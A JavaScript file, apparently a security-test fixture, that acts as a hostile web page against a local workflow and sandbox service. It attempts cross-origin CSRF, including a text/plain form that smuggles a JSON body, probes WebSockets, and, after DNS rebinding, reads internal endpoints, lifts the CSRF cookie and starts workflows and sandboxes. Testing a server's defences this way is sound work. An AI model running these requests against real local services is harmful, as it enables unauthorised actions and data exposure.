/** What a hostile page tries. Runs in the browser. */

/** The text of the answer, or nothing where there is none that the page may read. A browser sends six requests at once, and the others wait. */
async function answerOf(url, init = {}) {
  const answer = await fetch(url, { ...init, signal: AbortSignal.timeout(8_000) }).catch(() => undefined);
  return (await answer?.text().catch(() => '')) ?? '';
}

/** From another origin: requests that need nobody's leave. */
async function anotherOrigin(port) {
  const workflowId = `page-${port}`;
  const body = JSON.stringify({ workflowType: { name: 'createThenPrompt' }, taskQueue: { name: 'sandflow' } });
  const pathOf = (id) => `/api/v1/namespaces/default/workflows/${id}`;
  const headers = { 'content-type': 'application/json', 'x-csrf-token': 'x' };
  // All at once: some ports answer nothing, and each is waited for.
  const asked = ['127.0.0.1', 'localhost', '[::1]'].flatMap((host) => {
    const at = `http://${host}:${port}`;
    return [
      answerOf(at + pathOf(workflowId), { method: 'POST', body, mode: 'no-cors' }),
      answerOf(at + pathOf(workflowId), { method: 'POST', body, mode: 'cors', headers }),
      answerOf(`${at}/api/v1/namespaces/default/workflows`),
    ];
  });
  const read = await Promise.all(asked);
  // A form as plain text: its name and value together are the JSON.
  const frame = document.createElement('iframe');
  frame.name = 'target';
  const form = document.createElement('form');
  Object.assign(form, { method: 'POST', enctype: 'text/plain', target: 'target' });
  form.action = `http://127.0.0.1:${port}${pathOf(`${workflowId}-form`)}`;
  const field = document.createElement('input');
  field.name = body.slice(0, -1).concat(',"requestId":"a');
  field.value = '"}';
  form.append(field);
  document.body.append(frame, form);
  const answered = new Promise((resolve) => {
    frame.addEventListener('load', resolve);
    setTimeout(resolve, 4_000);
  });
  form.submit();
  await answered;
  const webSocket = await new Promise((resolve) => {
    const socket = new WebSocket(`ws://127.0.0.1:${port}/`);
    socket.onopen = () => resolve(true);
    socket.onerror = () => resolve(false);
    setTimeout(() => resolve(false), 4_000);
  });
  return { workflowId, read: read.join('\n'), webSocket };
}

/** At its own name, which points to the port by now: it reads every answer, sets headers and reads cookies. */
async function sameOrigin(port) {
  const workflowId = `rebound-${port}`;
  const paths = [
    '/api/v1/settings',
    '/api/v1/namespaces/default/workflows',
    '/api/v1/namespaces',
    '/metrics',
    '/readyz',
  ];
  paths.push('/v1/me', '/v1/sandboxes', '/_local/log', '/_local/books', '/openapi.json', '/debug/pprof/cmdline');
  const read = await Promise.all(paths.map((path) => answerOf(path)));
  const token = /_csrf=([^;]+)/.exec(document.cookie)?.[1] ?? '';
  const body = JSON.stringify({ workflowType: { name: 'createThenPrompt' }, taskQueue: { name: 'sandflow' } });
  const headers = { 'content-type': 'application/json', 'x-csrf-token': token };
  const posted = await Promise.all([
    answerOf(`/api/v1/namespaces/default/workflows/${workflowId}`, { method: 'POST', body, headers }),
    answerOf('/v1/sandboxes', { method: 'POST', body: '{}', headers }),
    answerOf('/webhooks/sandbox', { method: 'POST', body: '{}', headers }),
  ]);
  read.push(...posted);
  return { workflowId, read: read.join('\n'), webSocket: false };
}

Object.assign(globalThis, { anotherOrigin, sameOrigin });
